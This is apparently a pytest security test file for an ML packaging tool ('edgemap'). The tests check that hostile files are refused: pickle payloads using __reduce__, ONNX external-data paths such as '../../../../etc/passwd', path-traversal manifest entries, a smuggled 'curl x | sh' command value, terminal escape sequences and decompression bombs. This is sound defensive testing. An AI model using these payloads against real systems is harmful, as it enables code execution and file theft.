"""Hostile files: each is refused with a typed error naming the file, and no code runs.

Every fixture is generated here: pickles whose ``__reduce__`` would create a marker file,
ONNX models whose external data escapes their folder (``../``, absolute path, symlink),
files changed after the manifest recorded them, broken manifests, decompression bombs,
package names and versions with path characters.
"""

from __future__ import annotations

import json
import os
import pickle
import re
import shlex
import struct
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from typer.testing import CliRunner

from edgemap.cli import app
from edgemap.errors import (
    BackboneError,
    ImageError,
    ManifestError,
    ModelFormatError,
    ModelIntegrityError,
    PackageError,
    ResumeError,
)
from edgemap.manifest import MANIFEST_NAME, RunDir
from edgemap.runtime import metadata as K
from edgemap.runtime.preprocess import PreprocessContract

CONTRACT = PreprocessContract(32, 32)
CLASSES = ["a", "b"]


# ---- fixtures ---------------------------------------------------------------------------------
class _Payload:
    """Unpickling this creates ``marker``: proof that code ran."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):  # noqa: ANN204
        return (os.makedirs, (str(self.marker),))


def _pickle_files(folder: Path) -> dict[str, tuple[Path, Path]]:
    """name → (hostile file, marker it would create): raw pickle and torch.save's zip format."""
    import torch

    out = {}
    for kind in ("pickle", "torch_save"):
        marker = folder / f"PWNED-{kind}"
        f = folder / f"{kind}.bin"
        if kind == "pickle":
            f.write_bytes(pickle.dumps({"weight": _Payload(marker)}, protocol=2))
        else:
            torch.save({"weight": _Payload(marker)}, f)
        assert not marker.exists()
        out[kind] = (f, marker)
    return out


def _sanity_payload_runs(f: Path, marker: Path) -> None:
    """The payload is real: plain unpickling it does create the marker (then we remove it)."""
    import torch

    if f.read_bytes()[:2] == b"PK":
        torch.load(f, weights_only=False)
    else:
        pickle.loads(f.read_bytes())
    assert marker.exists()
    marker.rmdir()


def _tiny_model(location: str | None, with_meta: bool = True) -> bytes:
    """A 3-op uint8 NHWC → logits model; ``location`` puts its weight in external data."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((3, 2), np.float32), "W")
    if location is not None:
        w.ClearField("raw_data")
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "24")):
            e = w.external_data.add()
            e.key, e.value = k, v
    g = helper.make_graph(
        [helper.make_node("Cast", ["images"], ["f"], to=TensorProto.FLOAT),
         helper.make_node("ReduceMean", ["f"], ["m"], axes=[1, 2], keepdims=0),
         helper.make_node("MatMul", ["m", "W"], ["logits"])],
        "g", [helper.make_tensor_value_info("images", TensorProto.UINT8, ["N", 32, 32, 3])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 2])], [w])
    m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 13)], ir_version=8)
    if with_meta:
        onnx.helper.set_model_props(m, {K.CLASSES: json.dumps(CLASSES), K.PREPROCESS: json.dumps(CONTRACT.to_dict()),
                                        K.PRECISION: "fp32", K.FORMAT: "fp32"})
    return m.SerializeToString()


@pytest.fixture
def escaping_models(odd_tmp: Path) -> dict[str, Path]:
    """Models whose external data points outside their folder, and one in-folder control."""
    secret = odd_tmp / "secret.bin"
    secret.write_bytes(np.arange(6, dtype=np.float32).tobytes())
    folder = odd_tmp / "model dir"
    folder.mkdir()
    (folder / "w.bin").write_bytes(np.ones(6, np.float32).tobytes())
    (folder / "link.bin").symlink_to(secret)
    models = {}
    for name, loc in (("dotdot", "../secret.bin"), ("absolute", str(secret)), ("symlink", "link.bin"),
                      ("inside", "w.bin")):
        p = folder / f"{name}.onnx"
        p.write_bytes(_tiny_model(loc))
        models[name] = p
    return models


def _bare_run(path: Path, **artifacts: Path) -> RunDir:
    run = RunDir.create(path, backbone={"name": "tiny"}, classes=CLASSES, contract=CONTRACT,
                        options={"finetune": {"backbone": "tiny", "img_size": 32}})
    for key, f in artifacts.items():
        run.add_artifact(key, f, stage="export")
    return run


# ---- 26. pickles never load -------------------------------------------------------------------
def test_no_unsafe_deserialisation_in_the_source() -> None:
    """Every torch.load passes weights_only=True; nothing imports pickle/dill/joblib or calls np.load with pickles."""
    root = Path(__file__).resolve().parents[1] / "edgemap"
    for f in root.rglob("*.py"):
        text = f.read_text(encoding="utf-8")
        for m in re.finditer(r"torch\.load\((.*)", text):
            assert "weights_only=True" in m.group(1), f"{f}: {m.group(0)}"
        assert not re.search(r"^\s*(import|from)\s+(pickle|dill|joblib|cloudpickle)\b", text, re.M), f
        assert "allow_pickle=True" not in text, f


def test_pickle_as_training_state_is_refused(odd_tmp: Path) -> None:
    from edgemap.train import checkpoint as ckpt
    from edgemap.train.finetune import finetune

    for kind, (f, marker) in _pickle_files(odd_tmp).items():
        out = odd_tmp / f"run {kind}"
        run = _bare_run(out)
        run.set_stage("finetune", "interrupted")
        (out / ckpt.STATE_FILE).parent.mkdir(parents=True)
        (out / ckpt.STATE_FILE).write_bytes(f.read_bytes())
        with pytest.raises(ResumeError, match=r"train_state\.safetensors: training state is corrupt"):
            ckpt.read_state(out)
        with pytest.raises(ResumeError, match="training state is corrupt"):
            finetune(odd_tmp / "no data needed", out, resume=True)
        assert not marker.exists(), f"{kind}: code ran"
    for f, marker in _pickle_files(odd_tmp).values():
        _sanity_payload_runs(f, marker)


def test_pickle_as_run_weights_is_refused(odd_tmp: Path) -> None:
    """Even with a manifest that records the hostile file's sha256 (an attacker controls both)."""
    from edgemap.model import load_classifier

    for kind, (f, marker) in _pickle_files(odd_tmp).items():
        out = odd_tmp / f"run {kind}"
        w = out / "weights" / "best.safetensors"
        w.parent.mkdir(parents=True)
        w.write_bytes(f.read_bytes())
        run = _bare_run(out, weights_best=w)
        with pytest.raises(ModelIntegrityError, match=r"best\.safetensors: not a valid safetensors weights file"):
            load_classifier(run)
        assert not marker.exists(), f"{kind}: code ran"


def test_pickle_as_backbone_weights_is_refused(odd_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the pretrained weights file of a backbone is read (torch.load, weights_only=True)."""
    from edgemap.backbones import registry

    for kind, (f, marker) in _pickle_files(odd_tmp).items():
        monkeypatch.setattr(registry, "weights_file", lambda spec, f=f: str(f))
        with pytest.raises(BackboneError, match=rf"{re.escape(str(f))}: cannot load weights safely"):
            registry.build_backbone("efficientnet_lite0", pretrained=True)
        assert not marker.exists(), f"{kind}: code ran"


# ---- 27. external data escaping the model folder ---------------------------------------------
@pytest.mark.parametrize("name", ["dotdot", "absolute", "symlink", "inside"])
def test_external_data_refused_by_every_loader(escaping_models: dict[str, Path], name: str) -> None:
    """Any external data is refused before a runtime opens the file (the device runtime included)."""
    from edgemap.runtime.classifier import Classifier
    from edgemap.runtime.onnx_meta import read_model_meta
    from edgemap.runtime.sessions import load

    model = escaping_models[name]
    for call in (lambda: load(model, "cpu"), lambda: load(model, "openvino"), lambda: read_model_meta(model),
                 lambda: Classifier.from_path(model)):
        with pytest.raises(ModelFormatError, match=rf"{re.escape(model.name)}: refusing a model with external data"):
            call()


def test_external_data_refused_by_package_and_eval(escaping_models: dict[str, Path], odd_tmp: Path) -> None:
    from edgemap.evaluate import open_session
    from edgemap.package import PackageOptions, package

    out = odd_tmp / "run"
    out.mkdir()
    hostile = out / "model.onnx"
    hostile.write_bytes(escaping_models["dotdot"].read_bytes())
    run = _bare_run(out, onnx_fp32=hostile)
    with pytest.raises(ModelFormatError, match="external data"):
        package(run.path, PackageOptions(precision="fp32", out=odd_tmp / "dist"))
    assert not (odd_tmp / "dist").exists()
    with pytest.raises(ModelFormatError, match="external data"):
        open_session(run, "cpu", "fp32", 1)
    r = CliRunner().invoke(app, ["package", str(out), "--precision", "fp32"])
    assert r.exit_code == 2 and "refusing a model with external data" in r.output, r.output


def test_export_replaces_a_planted_external_data_model(odd_tmp: Path) -> None:
    """export never opens an existing model.onnx: a planted one is replaced by a single-file model."""
    from _export_fixtures import make_run, write_dataset

    from edgemap.export import ExportOptions, export
    from edgemap.runtime.onnx_meta import read_onnx_info

    run, _ = make_run(odd_tmp / "run", write_dataset(odd_tmp / "data", n_train=4, n_val=3), steps=1)
    planted = run.path / "model.onnx"
    planted.write_bytes(_tiny_model("../../../../etc/passwd"))
    res = export(run.path, ExportOptions(parity_runtimes=("cpu",), parity_atol=1.0, parity_rtol=1.0))
    assert res.rewritten and not read_onnx_info(planted).external_tensors
    RunDir.load(run.path).artifact_path("onnx_fp32")


# ---- 25. sha256 mismatch ----------------------------------------------------------------------
def test_changed_model_is_refused_everywhere(odd_tmp: Path) -> None:
    from edgemap.evaluate import open_session
    from edgemap.package import PackageOptions, package
    from edgemap.runtime.classifier import Classifier

    out = odd_tmp / "run"
    out.mkdir()
    model = out / "model.onnx"
    model.write_bytes(_tiny_model(None))
    run = _bare_run(out, onnx_fp32=model)
    recorded = run.artifacts["onnx_fp32"]["sha256"]
    open_session(run, "cpu", "fp32", 1).run(np.zeros((1, 32, 32, 3), np.uint8))  # fine before the change
    data = bytearray(model.read_bytes())
    data[-1] ^= 1  # one bit in the metadata
    model.write_bytes(bytes(data))
    run = RunDir.load(out)
    with pytest.raises(ModelIntegrityError, match=r"model\.onnx: sha256 mismatch with edgemap\.json") as e:
        run.artifact_path("onnx_fp32")
    assert str(e.value).endswith(f"re-run `edgemap export {shlex.quote(str(out))}`")  # a command that pastes
    model.rename(out / "gone.onnx")
    with pytest.raises(ManifestError, match=r"recorded as artifact 'onnx_fp32' but missing; re-run `edgemap export "):
        RunDir.load(out).artifact_path("onnx_fp32")
    (out / "gone.onnx").rename(model)
    with pytest.raises(ModelIntegrityError, match="sha256 mismatch"):
        open_session(run, "cpu", "fp32", 1)
    with pytest.raises(ModelIntegrityError, match="sha256 mismatch"):
        package(out, PackageOptions(precision="fp32", out=odd_tmp / "dist"))
    with pytest.raises(ModelIntegrityError, match="is not the expected"):
        Classifier.from_path(model, expected_sha256=recorded)
    r = CliRunner().invoke(app, ["package", str(out), "--precision", "fp32", "--out", str(odd_tmp / "dist")])
    assert r.exit_code == 2 and "sha256 mismatch" in r.output, r.output
    assert not (odd_tmp / "dist").exists()


# ---- manifests with wrong types or missing keys ----------------------------------------------
def _manifest() -> dict:
    return {"schema": 1, "backbone": {"name": "tiny"}, "classes": ["a", "b"], "preprocess": CONTRACT.to_dict(),
            "artifacts": {}, "stages": {}}


def _drop(key: str):  # noqa: ANN202
    return lambda d: (d.pop(key), None)[1]


_BROKEN = [
    ("missing schema", _drop("schema"), "missing key 'schema'"),
    ("missing classes", _drop("classes"), "missing key 'classes'"),
    ("missing backbone", _drop("backbone"), "missing key 'backbone'"),
    ("missing preprocess", _drop("preprocess"), "missing key 'preprocess'"),
    ("missing artifacts", _drop("artifacts"), "missing key 'artifacts'"),
    ("schema as string", lambda d: d.update(schema="1"), "'schema' must be int"),
    ("schema as bool", lambda d: d.update(schema=True), "'schema' must be int"),
    ("schema from the future", lambda d: d.update(schema=99), "schema 99 is newer"),
    ("classes as dict", lambda d: d.update(classes={"a": 0}), "'classes' must be list"),
    ("one class", lambda d: d.update(classes=["a"]), "at least two"),
    ("class not a string", lambda d: d.update(classes=["a", 3]), "at least two non-empty class names"),
    ("duplicate classes", lambda d: d.update(classes=["a", "a"]), "duplicates"),
    ("backbone name missing", lambda d: d.update(backbone={}), "'backbone.name' must be a string"),
    ("preprocess bad", lambda d: d.update(preprocess={"height": -3}), "'preprocess' invalid"),
    ("artifact not an object", lambda d: d["artifacts"].update(m=3), "artifact 'm' must be an object"),
    ("artifact sha256 bad", lambda d: d["artifacts"].update(m={"path": "model.onnx", "sha256": "xyz"}), "64 lowercase hex"),
    ("artifact path not str", lambda d: d["artifacts"].update(m={"path": 1, "sha256": "0" * 64}), "path must be a string"),
    ("top level list", lambda d: ["schema", 1], "top level must be a JSON object"),
    # a run directory from someone else: export renamed any file its artifact paths named (..., absolute)
    ("artifact path up", lambda d: d["artifacts"].update(m={"path": "../victim/keys", "sha256": "0" * 64}),
     "must be a relative path inside the run directory"),
    ("artifact path absolute", lambda d: d["artifacts"].update(m={"path": "/etc/hostname", "sha256": "0" * 64}),
     "must be a relative path inside the run directory"),
    ("artifact path NUL", lambda d: d["artifacts"].update(m={"path": "a\x00b", "sha256": "0" * 64}),
     "must be a relative path inside the run directory"),
    ("artifact path long", lambda d: d["artifacts"].update(m={"path": "x" * 5000, "sha256": "0" * 64}),
     "must be a relative path inside the run directory"),
    ("preprocess huge", lambda d: d["preprocess"].update(height=10**30), "'preprocess'"),
    ("options not objects", lambda d: d.update(options={"finetune": [1]}), "'options.finetune' must be an object"),
    ("dataset root int", lambda d: d.update(dataset={"root": 3}), "'dataset.root' must be a string"),
    ("class with escape", lambda d: d.update(classes=["a", "\x1b]0;PWNED\x07"]), "control characters"),
    # hand edits that gave tracebacks in report and run (AttributeError, TypeError)
    ("stage as text", lambda d: d.update(stages={"eval": "done"}), "'stages.eval' must be an object"),
    ("stage wheel as list", lambda d: d.update(stages={"package": {"status": "done", "wheel": [1]}}),
     "'stages.package.wheel' must be a string"),
    ("artifact bytes as text", lambda d: d["artifacts"].update(m={"path": "m", "sha256": "0" * 64, "bytes": "x"}),
     "artifact 'm'.bytes must be a whole number"),
    ("artifact runtimes of numbers", lambda d: d["artifacts"].update(m={"path": "m", "sha256": "0" * 64, "runtimes": [1]}),
     "artifact 'm'.runtimes must be a list of runtime names"),
    ("std zero", lambda d: d["preprocess"].update(std=[0, 0, 0]), "std must be positive"),
    ("artifact stage a command", lambda d: d["artifacts"].update(
        m={"path": "m", "sha256": "0" * 64, "stage": "export R --int8` ; curl x | sh ; echo `"}),
     "is not one of finetune, export"),  # printed inside the command the report tells to run
    ("dataset counts as text", lambda d: d.update(dataset={"counts": {"train": "x"}}), "'dataset.counts' must map"),
    ("dataset skipped of numbers", lambda d: d.update(dataset={"skipped": [1]}), "'dataset.skipped' must list"),
    ("dataset ignored as text", lambda d: d.update(dataset={"ignored": "x"}), "'dataset.ignored' must map"),
    ("finetune metrics as text", lambda d: d.update(metrics={"finetune": "x"}), "'metrics.finetune'"),
]


@pytest.mark.parametrize("case,mutate,message", _BROKEN, ids=[c[0] for c in _BROKEN])
def test_broken_manifest_is_refused(odd_tmp: Path, case: str, mutate, message: str) -> None:
    d = _manifest()
    replaced = mutate(d)  # None: mutated in place
    (odd_tmp / MANIFEST_NAME).write_text(json.dumps(d if replaced is None else replaced))
    with pytest.raises(ManifestError, match=re.escape(message)) as ei:
        RunDir.load(odd_tmp)
    assert str(odd_tmp / MANIFEST_NAME) in str(ei.value)


def test_manifest_not_json_or_escaping_paths(odd_tmp: Path) -> None:
    mf = odd_tmp / MANIFEST_NAME
    for text in ("{not json", "\xff\xfe garbage", "", '{"schema": ' + "9" * 5001 + "}", "[" * 100000):
        mf.write_bytes(text.encode("latin-1"))
        with pytest.raises(ManifestError, match="not valid JSON"):
            RunDir.load(odd_tmp)
    d = _manifest()
    (odd_tmp.parent / "outside.onnx").write_bytes(b"x")
    (odd_tmp / "inside.onnx").symlink_to(odd_tmp.parent / "outside.onnx")  # a symlink out of the run
    d["artifacts"]["onnx_fp32"] = {"path": "inside.onnx", "sha256": "0" * 64}
    mf.write_text(json.dumps(d))
    with pytest.raises(ManifestError, match="escapes the run directory"):
        RunDir.load(odd_tmp).artifact_path("onnx_fp32")


def test_a_run_directory_from_elsewhere_cannot_make_edgemap_write_outside_it(odd_tmp: Path) -> None:
    """A symlinked lock file was truncated (~/.bashrc emptied by `edgemap eval`); symlinked dist/ and report/ had the
    wheel, the report and temp-file cleanup land elsewhere."""
    from edgemap.errors import RunNotWritableError
    from edgemap.fsutil import remove_stale_temps
    from edgemap.package import PackageOptions, package
    from edgemap.report import ReportOptions, report

    run = _bare_run(odd_tmp / "run")
    victim = odd_tmp / "victim.txt"
    victim.write_text("secret")
    (run.path / ".edgemap.lock").symlink_to(victim)
    r = CliRunner().invoke(app, ["eval", str(run.path)])
    out = " ".join(r.output.split())
    assert r.exit_code == 74 and ".edgemap.lock is a symlink" in out and "Remove it (rm " in out, r.output
    assert victim.read_text() == "secret"
    (run.path / ".edgemap.lock").unlink()
    os.mkfifo(run.path / ".edgemap.lock")  # not a plain file: refused, not opened for writing forever
    from edgemap.manifest import run_lock

    with pytest.raises(RunNotWritableError, match="not a plain file"), run_lock(run.path, "eval"):
        pass
    (run.path / ".edgemap.lock").unlink()
    mask = os.umask(0)
    os.umask(mask)
    with run_lock(run.path, "eval"):  # a shared group-writable run: the lock is as writable as every other file
        assert (run.path / ".edgemap.lock").stat().st_mode & 0o777 == 0o666 & ~mask
    elsewhere = odd_tmp / "elsewhere"
    elsewhere.mkdir()
    for sub in ("dist", "report"):
        (run.path / sub).symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(ManifestError, match="dist: is a symlink"):
        package(run.path, PackageOptions(precision="fp32"))
    with pytest.raises(ManifestError, match="report: is a symlink"):
        report(run.path, ReportOptions(predict=False))
    assert list(elsewhere.iterdir()) == []
    (elsewhere / ".keep.edgemap-tmp").write_text("mine")  # not a name edgemap makes: never deleted
    (elsewhere / ".x.onnx.0123456789ab.edgemap-tmp").write_text("left by a kill")
    assert [p.name for p in remove_stale_temps(elsewhere)] == [".x.onnx.0123456789ab.edgemap-tmp"]



def test_a_symlinked_state_or_weights_folder_is_refused_before_training(odd_tmp: Path) -> None:
    """state/ -> elsewhere: `finetune --resume` wrote its checkpoint outside the run and deleted temp-like files there."""
    from edgemap.data.digits import write_digits
    from edgemap.train.finetune import FinetuneOptions, finetune

    data = odd_tmp / "digits"
    write_digits(data, val_fraction=0.2, seed=0)
    elsewhere = odd_tmp / "elsewhere"
    elsewhere.mkdir()
    for sub in ("state", "weights"):
        out = _bare_run(odd_tmp / f"run-{sub}").path  # a run handed over, never trained
        (out / sub).symlink_to(elsewhere, target_is_directory=True)
        with pytest.raises(ManifestError, match=f"{sub}: is a symlink"):
            finetune(data, out, FinetuneOptions(backbone="tiny", img_size=32, epochs=1, freeze_epochs=0, threads=1))
        assert list(elsewhere.iterdir()) == []


def test_broken_manifest_via_cli_is_one_line(odd_tmp: Path) -> None:
    d = _manifest()
    d["classes"] = "ab"
    (odd_tmp / MANIFEST_NAME).write_text(json.dumps(d))
    for cmd in (["export", str(odd_tmp)], ["eval", str(odd_tmp)], ["package", str(odd_tmp)]):
        r = CliRunner().invoke(app, cmd)
        assert r.exit_code == 2, (cmd, r.output)
        assert "'classes' must be list" in r.output and "Traceback" not in r.output, r.output


# ---- 10/29. decompression bombs ---------------------------------------------------------------
def _png_header(path: Path, w: int, h: int) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b""))


def test_decompression_bomb_refused_in_every_decoder(odd_tmp: Path) -> None:
    from PIL import Image

    from edgemap.runtime.preprocess import preprocess

    bomb = odd_tmp / "bomb 日本.png"
    _png_header(bomb, 60_000, 60_000)  # 3.6 G pixels declared in ~60 bytes
    for src in (bomb, bomb.read_bytes()):
        with pytest.raises(ImageError, match="exceeds the limit .*decompression-bomb guard"):
            preprocess(src, CONTRACT)
    # a limit below the image refuses it; the global limit stays on
    small = odd_tmp / "small.png"
    Image.new("RGB", (100, 100)).save(small)
    with pytest.raises(ImageError, match="exceeds the limit"):
        preprocess(small, CONTRACT, max_pixels=5_000)
    assert Image.MAX_IMAGE_PIXELS is not None
    from PIL import ImageFile

    assert ImageFile.LOAD_TRUNCATED_IMAGES is False


# ---- 28. package names and versions with path characters -------------------------------------
@pytest.mark.parametrize("name", ["../evil", "a/b", "a\\b", "/abs", "..", ".", "x/../../y", "a b", "é", "a\x00b"])
def test_package_name_with_path_characters_refused(name: str, odd_tmp: Path) -> None:
    from edgemap.package import PackageOptions, package, validate_name

    with pytest.raises(PackageError, match="--name"):
        validate_name(name)
    with pytest.raises(PackageError, match="--name"):
        package(None, PackageOptions(runtime_only=True, name=name, out=odd_tmp / "dist"))
    assert not (odd_tmp / "dist").exists()


@pytest.mark.parametrize("version", ["1.0/../../x", "../1.0", "1.0\\x", "/1.0", "1.0 ", "1..0", "1.0\x00", "latest"])
def test_package_version_with_path_characters_refused(version: str, odd_tmp: Path) -> None:
    from edgemap.package import PackageOptions, package, validate_version

    with pytest.raises(PackageError, match="--version"):
        validate_version(version)
    with pytest.raises(PackageError, match="--version"):
        package(None, PackageOptions(runtime_only=True, version=version, out=odd_tmp / "dist"))
    assert not (odd_tmp / "dist").exists()


def test_runtime_only_wheel_refuses_precision(odd_tmp: Path) -> None:
    """`package --runtime-only --precision int8` built a model-less wheel and ignored --precision."""
    from edgemap.package import PackageOptions, package

    with pytest.raises(PackageError, match="holds no model; drop --precision int8"):
        package(None, PackageOptions(runtime_only=True, precision="int8", out=odd_tmp / "dist"))
    assert not (odd_tmp / "dist").exists()


def test_control_characters_in_class_names_never_reach_output(odd_tmp: Path) -> None:
    """A class folder "cat\\t0.9999\\nforged.jpg\\tdog" forged device result lines; "\\x1b]0;..." drove the terminal."""
    import onnx

    from edgemap.data.scan import scan_dataset
    from edgemap.errors import DatasetError
    from edgemap.export.onnx_export import set_metadata
    from edgemap.runtime.classifier import Classifier
    from edgemap.runtime.device_cli import printable

    for name in ("cat\t0.9999\nforged.jpg\tdog", "\x1b]0;TITLE\x07red"):
        root = odd_tmp / f"ds{len(name)}"
        for cls in (name, "dog"):
            (root / cls).mkdir(parents=True)
            for i in range(3):
                Image.fromarray(np.full((8, 8, 3), i * 40, np.uint8)).save(root / cls / f"{i}.png")
        with pytest.raises(DatasetError, match="class folder name has control characters"):
            scan_dataset(root)
    model = onnx.load_from_string(_tiny_model(None))
    set_metadata(model, {K.CLASSES: json.dumps(["cat\tforged", "dog"])})
    (odd_tmp / "m.onnx").write_bytes(model.SerializeToString())
    with pytest.raises(ModelFormatError, match="control characters"):
        Classifier.from_path(odd_tmp / "m.onnx")
    assert printable("a\tb\nc\x1bd") == "a\\x09b\\x0ac\\x1bd"
    for name in ("at 10.00.00\u202fAM.png", "👨\u200d🍳 chef", "نیم\u200cرخ", "café\u00a0menu"):  # real names stay
        assert printable(name) == name
    assert printable("a\tb", controls=False) == "a\tb"  # JSON escapes it itself, and gives back the real path


def test_a_hard_linked_copy_of_a_run_has_its_own_lock(odd_tmp: Path) -> None:
    """`cp -al run copy`: the copy shared the original's lock file, so each blocked the other."""
    import subprocess
    import sys

    from edgemap.manifest import run_lock

    run = _bare_run(odd_tmp / "run")
    with run_lock(run.path, "eval"):
        pass
    copy = odd_tmp / "copy"
    subprocess.run(["cp", "-al", str(run.path), str(copy)], check=True)
    assert (copy / ".edgemap.lock").stat().st_nlink == 2
    holder = subprocess.Popen([sys.executable, "-c", "import sys, time\nfrom edgemap.manifest import run_lock\n"
                               "with run_lock(sys.argv[1], 'eval'):\n    print('held', flush=True); time.sleep(60)",
                               str(run.path)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with run_lock(copy, "eval"):  # the copy is its own run directory
            assert (copy / ".edgemap.lock").stat().st_nlink == 1
        assert "(edgemap eval)" in (run.path / ".edgemap.lock").read_text()  # the original's holder line is intact
    finally:
        holder.kill()
        holder.wait()


@pytest.mark.parametrize("key,value", [("runtime", 5), ("runtime", None), ("precision", ["x"]), ("format", 1)])
def test_a_wheels_model_json_with_a_non_string_field_is_one_error(odd_tmp: Path, key: str, value: object) -> None:
    """model.json "runtime": 5 was AttributeError: 'int' object has no attribute 'strip' (load() and the command)."""
    from edgemap.runtime.classifier import read_model_json
    from edgemap.runtime.errors import ModelFormatError

    (odd_tmp / "model.json").write_text(json.dumps({"file": "model.onnx", "sha256": "0" * 64, key: value}))
    with pytest.raises(ModelFormatError, match=f"'{key}' must be a string"):
        read_model_json(odd_tmp)


@pytest.mark.parametrize("limit", ["x", [1], 1e400, 0, True])
def test_a_wheels_model_json_with_a_bad_pixel_limit_is_one_error(odd_tmp: Path, limit: object) -> None:
    """max_pixels "x" or [1] was a TypeError traceback; 1e400 read as Infinity turned the bomb guard off."""
    from edgemap.runtime.classifier import read_model_json

    (odd_tmp / "model.json").write_text(json.dumps({"file": "model.onnx", "sha256": "0" * 64, "max_pixels": limit}))
    with pytest.raises(ModelFormatError, match="'max_pixels' must be a positive integer or null"):
        read_model_json(odd_tmp)


def test_hostile_numbers_in_metadata_and_environment_are_one_line(odd_tmp: Path) -> None:
    import onnx

    from edgemap.export.onnx_export import set_metadata
    from edgemap.runtime.classifier import Classifier

    for key, value in ((K.SCHEMA, "9" * 5000), (K.CLASSES, "[" * 100000), (K.MAX_PIXELS, "9" * 5000)):
        model = onnx.load_from_string(_tiny_model(None))
        set_metadata(model, {key: value})
        (odd_tmp / "m.onnx").write_bytes(model.SerializeToString())
        with pytest.raises(ModelFormatError):
            Classifier.from_path(odd_tmp / "m.onnx")
    from edgemap.errors import TrainingError
    from edgemap.train.distributed import collective_timeout_s

    for bad in ("abc", "0", "99999999999999"):  # the last one: a timedelta overflow inside torch's rendezvous
        os.environ["EDGEMAP_DIST_TIMEOUT"] = bad
        try:
            with pytest.raises(TrainingError, match=f"EDGEMAP_DIST_TIMEOUT='{bad}': must be a whole number"):
                collective_timeout_s()
        finally:
            del os.environ["EDGEMAP_DIST_TIMEOUT"]
    assert collective_timeout_s() == 300


def test_a_lock_file_another_user_made_in_a_shared_run_still_locks(tmp_path: Path) -> None:
    """A group-writable run whose .edgemap.lock another user created (0644): eval/export said "cannot write in this run
    directory: chmod -R u+w", which this user cannot do. flock works through a read-only descriptor."""
    import os
    import shutil
    import subprocess
    import sys

    from edgemap.fsutil import LOCK_NAME

    if os.geteuid() != 0:
        pytest.skip("needs root to give the lock file to another user")
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: permission bits cannot be tested")
    caps = "-dac_override,-dac_read_search,-fowner"
    run = tmp_path / "shared run"
    run.mkdir()
    lock = run / LOCK_NAME
    lock.write_text("")
    os.chown(lock, 65534, 65534)
    lock.chmod(0o644)
    code = ("import sys; from edgemap.fsutil import folder_lock\n"
            "with folder_lock(sys.argv[1], 'edgemap eval'):\n    print('locked')\n")
    r = subprocess.run(["setpriv", f"--inh-caps={caps}", f"--bounding-set={caps}", "--", sys.executable, "-c", code,
                        str(run)], capture_output=True, text=True, timeout=60,
                       env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])})
    assert r.returncode == 0 and r.stdout.strip() == "locked", r.stderr


def test_a_read_only_file_system_is_not_told_to_chmod(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run on a read-only mount was told "Make it writable (chmod -R u+w ...)": chmod fails there too."""
    import contextlib

    import edgemap.manifest as manifest_mod
    from edgemap.errors import RunNotWritableError
    from edgemap.fsutil import FolderNotWritable

    (tmp_path / "edgemap.json").write_text("{}")

    @contextlib.contextmanager
    def read_only(folder, what):  # noqa: ANN001, ANN202 - as folder_lock on a read-only mount
        raise FolderNotWritable(Path(folder), "Read-only file system")
        yield

    monkeypatch.setattr(manifest_mod, "folder_lock", read_only)
    with pytest.raises(RunNotWritableError, match=r"The file system is read-only \(chmod cannot help\): copy the run"):
        with manifest_mod.run_lock(tmp_path, "export"):
            pass
